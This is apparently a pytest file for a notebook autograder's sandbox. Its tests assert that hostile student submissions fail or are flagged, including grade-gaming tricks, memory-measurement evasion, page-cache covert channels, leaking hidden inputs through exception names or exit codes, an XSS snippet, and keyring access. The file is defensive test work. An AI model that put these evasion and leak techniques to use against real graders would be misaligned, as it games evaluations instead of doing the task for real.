    assert attacked["scores"][("f_inplace", "test_masked_softmax")] < 4
    section = attacked["report"].split("== f_inplace")[1].split("\n== ")[0]
    assert "modified" in section or "changed" in section, section


def test_an_answer_that_rewrites_the_runners_copies_of_its_arguments_is_still_seen_to_modify_them(attacked):
    """The grader compares the arguments' final state with what it sent: the runner keeps no verdict to rewrite."""
    scores = attacked["scores"]
    assert scores[("f_inplace_frames", "test_masked_softmax")] == scores[("f_inplace", "test_masked_softmax")] < 4
    section = attacked["report"].split("== f_inplace_frames")[1].split("\n== ")[0]
    assert "the call changed its argument 1 in place" in section, section
    assert "reaches the frames or objects of the code that runs it (`sys._getframe`" in section, section
    # the final state is read with torch's own methods, pinned before any student code, past every mode
    for trick in ("attribute", "mode"):
        assert scores[(f"f_inplace_{trick}", "test_masked_softmax")] == scores[("f_inplace", "test_masked_softmax")], trick


def test_an_answer_that_rewrites_the_runner_itself_is_flagged(attacked):
    """Code in the submission's process can replace the runner's own code there, and so what it reports about the
    arguments: a limit of any in-process runner.  The route (the runner's module, from sys.modules) is flagged."""
    section = attacked["report"].split("== f_inplace_patched")[1].split("\n== ")[0]
    assert "reaches the frames or objects of the code that runs it (a module object from `sys.modules`" in section, section


def test_numpy_four_d_differences_are_measured(attacked):
    assert attacked["scores"][("k_numpy", "test_DistanceAttention")] < 3  # right values, but not the memory property
    section = attacked["report"].split("== k_numpy")[1].split("\n== ")[0]
    assert "MiB of memory" in section, section
    # the same differences built in a child process: a submission cannot start one, so the answer fails outright
    assert attacked["scores"][("k_fork", "test_DistanceAttention")] == 0
    assert "your code raised an exception" in attacked["report"].split("== k_fork")[1].split("\n== ")[0]  # in a hidden check: not named


def test_no_secret_and_no_host_file_reaches_any_output(attacked):
    out = attacked["out"]
    for path in [*out.rglob("*"), *attacked["db"].parent.rglob("*")]:
        if path.is_file() and path.suffix != ".db":
            text = path.read_text(errors="ignore")
            assert SECRET not in text, path
            assert "AWS_SECRET_ACCESS_KEY" not in text, path
    feedback = (out / "feedback" / "g_leak" / NB1.assignment / f"{NB1.name}.html").read_text()
    assert "your code raised ValueError" in feedback or "ValueError" in feedback


def test_zeroing_the_inputs_of_a_hidden_check_gains_nothing(attacked):
    """A wrong answer that also zeroes its arguments: hidden checks keep their own tensors, so it scores no more."""
    scores = attacked["scores"]
    assert scores[("e_uniform_zeroing", "test_masked_softmax")] <= scores[("e_uniform", "test_masked_softmax")] < 4


def test_resetting_the_peak_memory_record_gains_nothing(attacked):
    """The peak resident memory is read from outside the submission; its /proc is read-only, so an answer
    that writes clear_refs to forget its (batch, n, m, d) tensor scores no more than the same answer without."""
    scores = attacked["scores"]
    plain = scores[("k_fourd", "test_DistanceAttention")]
    assert plain < 3
    for reset in ("self", "thread-self"):
        assert scores[(f"k_fourd_reset_{reset}", "test_DistanceAttention")] <= plain, reset


def test_memory_given_back_during_the_call_hides_nothing(attacked):
    """Ballast kept between calls and freed during one: the lowest resident memory of the call and its page
    faults are measured too, so the forbidden tensor counts as it does without the trick."""
    scores = attacked["scores"]
    assert scores[("k_fourd_ballast", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3
    assert "MiB of memory" in attacked["report"].split("== k_fourd_ballast")[1].split("\n== ")[0]


def test_a_buffer_made_before_the_call_hides_nothing(attacked):
    """The forbidden tensor written in place into memory made resident before the call: what the call reads
    and writes is measured, in anonymous and in shared mappings; a process that hides its memory map fails."""
    scores = attacked["scores"]
    plain = scores[("k_fourd", "test_DistanceAttention")]
    for kind in ("anonymous", "shared", "undumpable", "split", "library", "cold", "free"):  # split: many small mappings
        assert scores[(f"k_fourd_prealloc_{kind}", "test_DistanceAttention")] <= plain, kind
    for view in ("shared", "private"):  # written by the kernel (pwrite), read through a read-only mapping
        assert scores[(f"k_fourd_kernel_{view}", "test_DistanceAttention")] <= plain, view
    section = attacked["report"].split("== k_fourd_prealloc_undumpable")[1].split("\n== ")[0]
    assert "could not be measured" in section, section


def test_an_answer_that_knows_it_is_measured_gains_nothing(attacked):
    """Cheap zeros when measured, the forbidden tensor otherwise: the measured call must give what an
    ordinary call gives, so the memory property fails all the same."""
    scores = attacked["scores"]
    assert scores[("k_measure_aware", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")]


def _words(page: Path) -> str:
    """A feedback page's text as a reader sees it: tags dropped, entities decoded, spaces collapsed."""
    import html

    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", page.read_text())).split())


def _autograded_text(attacked, student: str, nb) -> str:
    """The outputs of a student's notebook as graded: the instructor's copy keeps what feedback withholds."""
    path = attacked["db"].parent / "autograded" / student / nb.assignment / f"{nb.name}.ipynb"
    cells = nbformat.read(path, as_version=4).cells
    return "".join(o.get("text", "") for c in cells if c.cell_type == "code" for o in c.get("outputs", []))


def test_no_call_of_a_memory_check_can_tell_it_is_not_the_measured_one(attacked):
    """Every call of a cell that measures memory, with inputs of measured size, starts as the measured call
    does (a fresh peak, every page unreferenced): an answer watching a canary page takes the same path in the
    measured call and in the ordinary call of the same inputs, so it cannot build the forbidden tensor in the
    one it thinks unmeasured."""
    text = _autograded_text(attacked, "k_canary", NB2)
    # The notebook's own run of the visible check (in the sandbox, measured there by attnkit's in-process
    # tracker) comes first; then the grader's check: its measured call, and its ordinary call with the same inputs.
    assert "paths of the calls with 256 queries: ['BIG-FOUR-D', 'BIG-LEAN', 'BIG-LEAN']" in text, text[-2000:]


def test_a_measurement_that_fails_fails_the_check(attacked):
    """The answer ends its main thread, so its process's status holds no memory figures: the check fails
    (it used to pass, as if nothing had been measured)."""
    scores = attacked["scores"]
    assert scores[("k_zombie", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3
    assert "could not be measured" in attacked["report"].split("== k_zombie")[1].split("\n== ")[0]


def test_an_answer_cannot_mount_its_own_view_of_its_files(attacked):
    """unshare and mount are refused in the submission: no read-only bind mount of the answer's own, which the
    memory measure would have taken for a library's pages."""
    scores = attacked["scores"]
    assert scores[("k_own_mount", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3
    text = _autograded_text(attacked, "k_own_mount", NB2)
    assert "own mounts: [('unshare', 'Operation not permitted'), ('bind', 'Operation not permitted')" in text, text[-2000:]


def test_io_uring_is_refused(attacked):
    scores = attacked["scores"]
    assert scores[("k_io_uring", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3
    assert "PermissionError: [Errno 1] io_uring_setup" in attacked["report"].split("== k_io_uring")[1].split("\n== ")[0]


def test_a_friend_graded_after_finds_nothing_left_for_it(attacked):
    """Nothing of one submission reaches the next: not through an inherited file descriptor (none is open for
    writing), not through a file in any folder it can write."""
    scores = attacked["scores"]
    assert scores[("l_colluder", "test_masked_softmax")] == 4
    assert scores[("l_friend", "test_masked_softmax")] == 0
    text = _autograded_text(attacked, "l_friend", NB1)
    assert "loot found: 0 bytes" in text, text[-2000:]
    assert COLLUDE_MARK not in text
    section = attacked["report"].split("== l_friend")[1].split("\n== ")[0]
    assert "runs code it builds while it runs: exec(" in section, section  # how it would have run what it found


def test_no_kernel_counter_or_page_cache_tool_carries_a_message(attacked):
    """The colluder starts 3,000 threads and empties the page cache of a file both can read; the friend reads
    its own id through /proc (in the worker's /proc, a counter those threads moved on) and probes the cache.
    Each submission has a /proc of its own, where it is PID 1, and the cache tools are refused."""
    text = _autograded_text(attacked, "l_friend", NB1)
    assert "own pid as /proc shows it: 1\n" in text, text[-2000:]
    assert "processes in view: ['1'] []\n" in text, text[-2000:]  # the host's /proc, shown for the mount alone, is hidden
    assert "page cache not probed: Operation not permitted" in text, text[-2000:]
    assert "mincore: Operation not permitted" in text, text[-2000:]  # it tells the truth about files the grader's uid owns
    assert "page cache not emptied: Operation not permitted" in _autograded_text(attacked, "l_colluder", NB1)
    assert "a /proc of its own per submission" in attacked["report"]


def test_running_received_code_by_a_computed_name_is_flagged(attacked):
    section = attacked["report"].split("== l_friend_computed")[1].split("\n== ")[0]
    assert 'fetches a builtin by a computed name: getattr(_bi, "ex" + "ec")' in section, section
    assert "`masked_softmax` is defined only while the notebook runs" in section, section
    assert "`batch_scores` is defined only" not in section  # its stub, unchanged, binds it


def test_passing_data_through_the_page_cache_is_flagged_at_both_ends(attacked):
    """Timing reads of a file's pages is a channel the sandbox cannot close; what it can see is that each bit
    costs a read from storage, at the sender (a page it loads) or at the receiver (a page it finds cold).
    Honest submissions read nothing from storage: the worker read its libraries whole when it started."""
    report = attacked["report"]
    for student in ("m_cache_a_sender", "m_cache_b_receiver"):
        section = report.split(f"== {student}")[1].split("\n== ")[0]
        assert re.search(r"possible tampering: read \d+ MiB of files from disk", section), section
    for student in ("b_honest", "l_colluder", "d_probe"):
        assert "from disk" not in report.split(f"== {student}")[1].split("\n== ")[0], student
    assert attacked["scores"][("m_cache_b_receiver", "test_masked_softmax")] == 0


def test_memory_dropped_and_replaced_by_file_pages_hides_nothing(attacked):
    scores = attacked["scores"]
    assert scores[("k_give_back", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3
    section = attacked["report"].split("== k_give_back")[1].split("\n== ")[0]
    # the visible check quotes its measure: at least the whole 32 MiB (batch, n, m, d) tensor.  Not exactly 32:
    # on a loaded CI machine the same answer scored the same (both checks failed) and the quote was another number
    quoted = [int(n) for n in re.findall(r"needed (\d+) MiB of memory", section)]
    assert quoted and min(quoted) >= 31, section


def test_a_hidden_memory_check_quotes_no_number_of_the_answer(attacked):
    section = attacked["report"].split("== k_peak_spells")[1].split("\n== ")[0]
    page = (attacked["out"] / "feedback" / "k_peak_spells" / NB2.assignment / f"{NB2.name}.html").read_text()
    assert "needed more than 8 MiB of memory" in section, section
    assert not re.search(r"needed (?!more than 8 MiB)\d+ MiB", section + page), section


def test_a_memory_map_made_slow_to_read_fails_the_check_in_seconds(attacked):
    section = attacked["report"].split("== k_many_maps")[1].split("\n== ")[0]
    assert attacked["scores"][("k_many_maps", "test_DistanceAttention")] == 0, section
    assert "could not be measured" in section and "did not respond to an interrupt" not in section, section
    assert _total(attacked["scores"], "k_many_maps") == _total(attacked["scores"], "l_honest2") - 3  # only that question


def test_a_path_smaps_escapes_cannot_pass_for_a_read_only_file(attacked):
    scores = attacked["scores"]
    assert scores[("k_escaped_path", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3
    assert "needed" in attacked["report"].split("== k_escaped_path")[1].split("\n== ")[0]


def test_after_a_hidden_check_neither_the_exception_type_nor_the_exit_status_is_quoted(attacked):
    """Code that kept a hidden input can choose among 60-odd built-in exception types (6 bits a cell) or an
    exit status (8 bits): after a hidden check the feedback says "raised an exception" and how the process
    ended is not said."""
    for student in ("k_raise_bits", "k_exit_bits"):
        page = (attacked["out"] / "feedback" / student / NB2.assignment / f"{NB2.name}.html").read_text()
        report = attacked["report"].split(f"== {student}")[1].split("\n== ")[0]
        chosen = "|".join(re.findall(r"'(\w+Error)'", RAISE_BITS))  # (the answers' source, shown too, lists them)
        assert not re.search(rf"raised (<[^>]+>)?({chosen})\b", page + report), student
        assert not re.search(r"exited with status \d", page + report), student
    page = _words(attacked["out"] / "feedback" / "k_raise_bits" / NB2.assignment / f"{NB2.name}.html")
    assert page.count("raised an exception") >= 3, page[-3000:]
    assert "how it ended is not said" in attacked["report"].split("== k_exit_bits")[1].split("\n== ")[0]
    assert _total(attacked["scores"], "k_raise_bits") == _total(attacked["scores"], "l_honest2")  # the answers are right


def test_an_answer_that_predicts_the_measured_inputs_gains_nothing(attacked):
    scores = attacked["scores"]
    assert scores[("k_predicted", "test_DistanceAttention")] <= scores[("k_fourd", "test_DistanceAttention")] < 3


def test_a_refused_reply_quotes_nothing_the_sender_chose(attacked):
    section = attacked["report"].split("== k_size_spells")[1].split("\n== ")[0]
    page = (attacked["out"] / "feedback" / "k_size_spells" / NB2.assignment / f"{NB2.name}.html").read_text()
    assert "sent a reply the grader refuses" in section, section
    assert str(SIZE_MARKER) not in section  # (the page shows the answer's source, which holds it; not as a reason)
    assert not re.search(rf"(reply|bytes)[^<]{{0,80}}{SIZE_MARKER}|{SIZE_MARKER}[^<]{{0,20}}bytes", page)


def test_a_reply_of_millions_of_empty_lists_is_refused_unread(attacked):
    section = attacked["report"].split("== s_many_lists")[1].split("\n== ")[0]
    assert "sent a reply the grader refuses" in section, section  # (after a hidden check: what was wrong is not said)
    assert _total(attacked["scores"], "s_many_lists") < _total(attacked["scores"], "l_honest2")


def test_a_cell_too_long_to_scan_is_named_and_graded(attacked):
    section = attacked["report"].split("== t_unscanned")[1].split("\n== ")[0]
    assert re.search(r"not scanned for tampering: 12\d,\d{3} characters \(more than 100,000\)", section), section
    assert attacked["scores"][("t_unscanned", "test_attention_memory_traffic")] == 2  # the answer itself is right
    took = float(section.split("]")[1].split("s")[0])
    assert took < 30, section


def test_a_cell_of_megabytes_is_an_error_row_in_seconds(attacked):
    section = attacked["report"].split("== v_huge_cell")[1].split("\n== ")[0]
    assert re.search(r"holds 3,000,\d{3} characters, more than the 1,000,000 a cell may have", section), section
    assert _total(attacked["scores"], "v_huge_cell") == 0
    took = float(section.split("]")[1].split("s")[0])
    assert took < 30, section
    written = [p for p in attacked["out"].rglob("*") if p.is_file() and "v_huge_cell" in str(p)]
    assert written and max(p.stat().st_size for p in written) < 1_000_000, [(str(p), p.stat().st_size) for p in written]


def test_values_returned_after_a_hidden_check_are_not_quoted(attacked):
    """An answer that kept the hidden inputs returns a number spelling them out; a later visible check's
    "got ..." would have printed it.  After a hidden check, reasons keep only what was expected."""
    page = (attacked["out"] / "feedback" / "k_spelled" / NB2.assignment / f"{NB2.name}.html").read_text()
    report = attacked["report"].split("== k_spelled")[1].split("\n== ")[0]
    assert not re.search(r"9\d{16}", page) and not re.search(r"9\d{16}", report), report
    assert attacked["scores"][("k_spelled", "test_DistanceAttention")] == 3  # the answer itself is right


def test_a_reply_that_inflates_is_refused_before_it_is_read(attacked):
    """A 0.5 MB reply holding a deflated 512 MiB record: refused unread, and the answer gains nothing."""
    section = attacked["report"].split("== s_inflate")[1].split("\n== ")[0]
    assert "compressed record" in section, section
    assert _total(attacked["scores"], "s_inflate") < _total(attacked["scores"], "b_honest")


def test_forged_argument_names_do_not_carry_hidden_inputs(attacked):
    """The sandbox's reply names what a call changed; only the arguments the grader passed are taken from it,
    named by the grader, so a name that spells out a hidden check's inputs never reaches the feedback."""
    page = (attacked["out"] / "feedback" / "g_mutation_name" / NB1.assignment / f"{NB1.name}.html").read_text()
    report = attacked["report"].split("== g_mutation_name")[1].split("\n== ")[0]
    assert not re.search(r"LEAKED \(", page) and not re.search(r"LEAKED \(", report), report
    assert attacked["scores"][("g_mutation_name", "test_masked_softmax")] == 4  # the answer itself is right


def test_hidden_inputs_do_not_leave_through_an_exception_class_name(attacked):
    page = (attacked["out"] / "feedback" / "k_leak_by_name" / NB2.assignment / f"{NB2.name}.html").read_text()
    report = attacked["report"].split("== k_leak_by_name")[1].split("\n== ")[0]
    assert not re.search(r"LEAK_-?\d", page) and not re.search(r"LEAK_-?\d", report), report  # its source names LEAK_, no values
    assert "raised an exception" in _words(attacked["out"] / "feedback" / "k_leak_by_name" / NB2.assignment / f"{NB2.name}.html"), report
    assert attacked["scores"][("k_leak_by_name", "test_DistanceAttention")] == 3  # the answer itself is right


def test_an_answer_that_floods_the_figures_is_capped(attacked):
    autograded = next(attacked["db"].parent.rglob("r_bloat/**/*.ipynb"))
    page = attacked["out"] / "feedback" / "r_bloat" / NB1.assignment / f"{NB1.name}.html"
    assert autograded.stat().st_size < 16 * 2**20 and page.stat().st_size < 16 * 2**20
    assert "figure left out" in autograded.read_text()
    assert _total(attacked["scores"], "r_bloat") == _total(attacked["scores"], "b_honest")


def test_a_forged_kernel_name_cannot_write_report_lines(attacked):
    report = attacked["report"]
    entries = [line for line in report.splitlines() if line.startswith("== b_honest /")]
    assert len(entries) == 1 and "13/13" in entries[0], entries
    assert not any(c in report for c in "\u202e\u2066\u2069\u200b")
    assert "kernel `python3 == b_honest" in report.split("== q_kernel")[1]  # quoted on its own repair line


def test_rewriting_the_valid_lengths_it_is_given_gains_nothing(attacked):
    """A masked_softmax that masks nothing and sets the caller's valid_lens to "every key": the checks compare
    the mask with their own copy of the lengths, and the visible check says valid_lens was modified."""
    scores = attacked["scores"]
    assert scores[("e_nomask_lens", "test_masked_softmax")] <= scores[("e_nomask", "test_masked_softmax")] < 4
    assert _total(scores, "e_nomask_lens") <= _total(scores, "e_nomask")  # nor in the attention checks that call it
    section = attacked["report"].split("== e_nomask_lens")[1].split("\n== ")[0]
    assert "valid_lens: expected the function to leave its input unchanged" in section, section


def test_hidden_inputs_kept_by_the_code_do_not_reach_its_feedback(attacked):
    """batch_scores keeps what every check hands it; a later answer raises and draws what it kept."""
    page = (attacked["out"] / "feedback" / "g_stash" / NB1.assignment / f"{NB1.name}.html").read_text()
    assert "STASH-MESSAGE [" not in page and "STASH-CELL [" not in page and "(4, 3, 7)" not in page, page[-3000:]  # the answer's source is shown, its message not
    assert "not shown here" in page  # the figure drawn after the hidden check is left out, and the page says so
    honest = (attacked["out"] / "feedback" / "b_honest" / NB1.assignment / f"{NB1.name}.html").read_text()
    assert "<img" in honest  # figures from before the first hidden check are still there


def test_student_html_is_inert_in_formgrader_and_feedback(attacked):
    autograded = attacked["db"].parent / "autograded" / "g_leak" / NB1.assignment / f"{NB1.name}.ipynb"
    nb = nbformat.read(autograded, as_version=4)
    markdown = "".join(c.source for c in nb.cells if c.cell_type == "markdown")
    assert "alert('owned')" in markdown  # the answer is kept...
    assert "```text\n" + XSS.replace("`", "\u02cb") in markdown  # ...as plain text: no tag, link or image acts
    feedback = (attacked["out"] / "feedback" / "g_leak" / NB1.assignment / f"{NB1.name}.html").read_text()
    assert "<script>alert" not in feedback and "<img src=x" not in feedback


def test_a_pathological_cell_costs_seconds_and_only_its_author(attacked):
    scores = attacked["scores"]
    assert scores[("h_stall", "test_batch_scores")] == 0
    assert scores[("h_stall", "test_masked_softmax")] == 4  # the rest of that notebook is graded
    section = attacked["report"].split("== h_stall")[1].split("\n== ")[0]
    took = float(section.split("]")[1].split("s")[0]) if "]  " in section.splitlines()[0] else 0.0
    assert took < 60, section


def _template(nb):
    from grading.intake.template import load_template

    return load_template(nb.source, nb.assignment, nb.name)


def test_an_object_posing_as_a_tensor_earns_nothing(attacked):
    assert attacked["scores"][("m_pose", "test_batch_scores")] == 0
    full1 = sum(p.points for p in _template(NB1).questions if p.graded_by == "auto")
    assert _total(attacked["scores"], "m_pose") == full1 - 2  # only its own question


def test_a_huge_value_is_refused_not_materialised(attacked):
    assert attacked["scores"][("n_huge", "test_query121")] == 0
    assert attacked["scores"][("n_huge", "test_query122")] == 1  # the rest of the notebook is graded


def test_terminal_output_carries_no_control_characters(attacked):
    for text in (attacked["report"], attacked["proc"].stderr):
        assert not any(ch in text for ch in "\x1b\x07\r\x08"), repr(text[:200])
    assert "not a student id" in attacked["report"] and "owned" in attacked["report"]  # listed, inert


def test_the_graders_keyring_is_out_of_reach(attacked):
    feedback = (attacked["out"] / "feedback" / "p_keyring" / NB1.assignment / f"{NB1.name}.html").read_text()
    assert "keyring: []" in feedback, feedback[:3000]  # every keyctl call failed with EPERM
